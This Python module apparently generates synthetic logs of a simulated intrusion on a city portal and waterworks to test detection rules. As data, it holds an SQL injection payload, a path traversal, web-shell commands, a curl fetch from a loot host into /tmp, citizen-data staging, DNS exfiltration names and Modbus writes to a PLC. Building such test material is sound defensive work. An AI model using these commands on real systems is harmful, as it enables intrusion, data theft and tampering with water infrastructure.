"""Attack two: the citizen portal is scanned, an SSH password guessed, a web shell dropped, a tool fetched, citizens' data
staged and carried out through DNS questions; at the end PLCs of the waterworks are written to.
"""

from __future__ import annotations

import base64
import random
from functools import partial

from demo import network, packets, syslog
from demo.background import BROWSERS
from demo.chains.chain import LOOT, PACKET_RULES, Chain
from demo.city import City
from demo.plan import Planned, Route

SWEPT_PORTS = (21, 22, 23, 25, 445, 1433, 3306, 3389, 5432, 6379, 7001, 8080, 8443, 9200, 27017)
SCANNER = "sqlmap/1.9.4#stable (https://sqlmap.org)"
INJECTION = "1%27%20UNION%20SELECT%20table_name,NULL%20FROM%20information_schema.tables--%20-"
GUESSED_NAMES = ("root", "admin", "oracle", "test", "deploy")
SHELL = "/portal/uploads/avatar.php"
HIDDEN = "/" + "tmp/"
"""The intruder's hiding place on the portal's server, as it stands in the record; nothing is written there."""


def portal(city: City, rng: random.Random) -> list[Planned]:
    """About 80 seconds, from an IPv4 or an IPv6 address."""
    chain = Chain("portal")
    web = rng.choice(city.of("web"))
    over_ip6 = rng.random() < 0.5
    intruder = f"2001:db8:bad::{rng.randrange(1, 0xFFFF):x}" if over_ip6 else f"203.0.113.{rng.randrange(100, 200)}"
    _sweep(chain, web.ip6 if over_ip6 else web.ip, intruder)
    _probe(chain, web.name, intruder)
    _guess_password(chain, web.name, intruder)
    _drop_web_shell(chain, web.name, intruder)
    _fetch_tool(chain, city, web.name, web.ip)
    _carry_out(chain, city, rng, web.name, web.ip)
    _reach_the_plc(chain, city, web.ip)
    return chain.records


def _sweep(chain: Chain, address: str, intruder: str) -> None:
    chain.step("sweeps the portal's ports", 0)
    for number, port in enumerate(SWEPT_PORTS):
        flow = (intruder, 41_000 + number, address, port)
        denied = partial(network.usg_policy, host="USG-EDGE-01", permit=False, flow=flow, zones=("untrust", "dmz"))
        chain.send(Route.TCP, denied, *(("firewall_port_sweep",) if port == SWEPT_PORTS[-1] else ()), gap=0.1)


def _probe(chain: Chain, web: str, intruder: str) -> None:
    chain.step("probes the portal", 2)
    for target, status, expected in (
        (f"/portal/search?q={INJECTION}", 500, "web_sql_injection"),
        ("/portal/download?file=../../../../etc/passwd", 403, "web_path_traversal"),
    ):
        request = f"GET {target} HTTP/1.1"
        asked = partial(syslog.nginx, host=web, source=intruder, request=request, status=status, size=548, agent=SCANNER)
        chain.send(Route.TCP, asked, "web_scanner_agent", expected)


def _guess_password(chain: Chain, web: str, intruder: str) -> None:
    chain.step("guesses an SSH password", 4)
    for attempt in range(18):
        name = GUESSED_NAMES[attempt % len(GUESSED_NAMES)]
        failed = partial(
            syslog.sshd_failed,
            host=web,
            pid=20_100 + attempt,
            user=name,
            source=intruder,
            port=42_000 + attempt,
            known=name in ("root", "deploy"),
        )
        chain.send(Route.TCP, failed, *(("sshd_bruteforce",) if attempt == 17 else ()), gap=0.5)
    accepted = partial(syslog.sshd_accepted, host=web, pid=20_140, user="deploy", source=intruder, port=42_090, method="password")
    chain.send(Route.TCP, accepted, "sshd_bruteforce_success")
    root = partial(syslog.sudo, host=web, user="deploy", directory="/home/deploy", command="/bin/bash")
    chain.send(Route.TCP, root, "sudo_root_shell")


def _drop_web_shell(chain: Chain, web: str, intruder: str) -> None:
    chain.step("drops a web shell", 6)
    dropped, used = "webshell_script_in_uploads", "webshell_command_parameter"
    for request, expects in (
        (f"POST {SHELL} HTTP/1.1", (dropped,)),
        (f"GET {SHELL}?cmd=id HTTP/1.1", (dropped, used)),
        (f"GET {SHELL}?cmd=cat%20/etc/passwd HTTP/1.1", (dropped, used)),
    ):
        seen = partial(syslog.nginx, host=web, source=intruder, request=request, status=200, size=1_204, agent=BROWSERS[3])
        chain.send(Route.TCP, seen, *expects, gap=2.0)


def _fetch_tool(chain: Chain, city: City, web: str, address: str) -> None:
    chain.step("fetches a tool", 4)
    words = ("curl", "-s", "-o", HIDDEN + ".u", f"http://{LOOT}:8080/kit/update.sh")
    chain.send(Route.TCP, partial(syslog.auditd_execve, host=web, serial=88_101, arguments=words), "auditd_download_to_tmp")
    plc = city.named("wtr-plc-02")
    mirror = partial(packets.attack, client=address, client_port=40_222, loot=(LOOT, 8080), plc=plc.ip)
    chain.send(Route.PCAP, mirror, *PACKET_RULES)


def _carry_out(chain: Chain, city: City, rng: random.Random, web: str, address: str) -> None:
    chain.step("stages citizens' data", 5)
    words = ("tar", "-czf", HIDDEN + ".x.tgz", "/srv/portal/storage/citizens", "/etc/passwd")
    chain.send(Route.TCP, partial(syslog.auditd_execve, host=web, serial=88_140, arguments=words), "auditd_archive_staging")

    chain.step("carries data out through DNS", 4)
    ask = partial(network.eve_dns, sensor="sensor-dmz-01", source=address, server=city.named("ops-dns-01").ip, kind="TXT")
    for number in range(30):
        label = base64.b32encode(rng.randbytes(33)).decode().lower().rstrip("=")
        name = f"{label}.{number:04x}.t.exfil-lanting.example"
        asked = partial(ask, port=30_000 + number, name=name)
        chain.send(Route.JSON, asked, "dns_long_label", *(("dns_tunnel_volume",) if number == 29 else ()), gap=0.3)


def _reach_the_plc(chain: Chain, city: City, address: str) -> None:
    chain.step("writes to a PLC", 6)
    flow = (address, 40_900, city.named("wtr-plc-01").ip, 502)
    for register, value in ((40, 1), (41, 0), (42, 65_535)):
        write = partial(network.eve_modbus, sensor="sensor-water-01", flow=flow, function=6, address=register, value=value)
        chain.send(Route.JSON, write, "modbus_write", gap=0.8)
